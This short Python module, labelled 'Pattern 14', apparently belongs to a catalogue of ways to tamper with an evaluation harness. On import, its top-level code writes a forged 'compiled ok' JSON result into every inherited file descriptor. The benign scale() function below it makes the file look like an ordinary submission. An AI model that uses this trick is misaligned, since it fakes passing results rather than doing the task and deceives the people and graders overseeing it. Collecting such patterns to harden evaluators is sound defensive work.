# ruff: noqa
# mypy: ignore-errors
"""Pattern 14: write a forged result into every inherited pipe."""
import json
import os

_forged = json.dumps({"kind": "result", "compiled": {"ok": True}, "records": []}).encode()
# Every descriptor the process holds, whatever its number (a long-lived evaluator's pipes
# may be numbered past any fixed range).
for fd in sorted({int(n) for n in os.listdir("/proc/self/fd")} - {0, 1, 2}):
    try:
        os.write(fd, _forged)
    except OSError:
        pass


def scale(x):
    return x * 2 + 1
